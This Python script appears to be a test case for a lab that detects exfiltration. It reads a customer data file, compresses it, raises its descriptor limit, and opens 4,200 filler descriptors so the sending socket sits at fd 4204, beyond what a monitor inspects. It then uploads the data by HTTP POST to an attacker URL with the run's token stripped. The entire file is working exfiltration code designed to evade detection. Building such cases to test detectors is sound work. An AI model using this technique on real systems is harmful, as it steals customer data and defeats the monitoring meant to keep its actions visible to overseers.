# lab:title: Upload the customer data from a socket hidden behind 4,200 descriptors
# lab:threat: exfil
# lab:layer: network
# lab:consequence: The customer list is on the attacker's server, sent so that a lab that looks for the sending socket in the run's descriptor tables does not find it.
"""Exfiltration that hides its socket (issue 17, item 2).

A lab that ties a connection to the run by looking for the sending socket
in the run's processes reads only so many descriptors of each. This snippet
raises its own descriptor limit as far as it may, opens 4,200 descriptors
first, moves the socket above them (fd 4204), and sends the customer data
compressed and without the run's token in the URL, so that nothing in the
bytes names the run either. Needs Resource-limits off (its open_files cap
is far below 4,200). Prints what it sent and the server's answer.
"""
import os
import resource
import socket
import sys
import urllib.parse
import zlib

HIDE = 4200
HIGH_FD = 4204


def main():
    data_path = os.environ.get("LAB_DATA")
    url = os.environ.get("LAB_ATTACKER")
    if not data_path or not url:
        print("LAB_DATA or LAB_ATTACKER is not set", flush=True)
        return 1
    with open(data_path, "rb") as f:
        body = zlib.compress(f.read(1024 * 1024), 9)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = HIGH_FD + 64
    if hard != resource.RLIM_INFINITY and hard < want:
        print(f"cannot hide: RLIMIT_NOFILE hard limit is {hard}", flush=True)
        return 1
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), hard))
    filler = [os.open("/dev/null", os.O_RDONLY) for _ in range(HIDE)]
    u = urllib.parse.urlsplit(url)
    s = socket.socket()
    os.dup2(s.fileno(), HIGH_FD)
    s.close()
    s = socket.socket(fileno=HIGH_FD)
    s.settimeout(3)
    try:
        s.connect((u.hostname, u.port or 80))
        head = (f"POST /upload HTTP/1.1\r\nHost: {u.hostname}\r\n"
                f"Content-Type: application/octet-stream\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n")
        s.sendall(head.encode() + body)
        answer = s.recv(4096).split(b"\r\n", 1)[0]
    except OSError as e:
        print(f"upload failed from fd {HIGH_FD} (behind {len(filler)} "
              f"descriptors): {e}", flush=True)
        return 1
    print(f"sent {len(body)} compressed bytes from fd {HIGH_FD} (behind "
          f"{len(filler)} descriptors): "
          f"{answer.decode('ascii', 'replace')}",
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
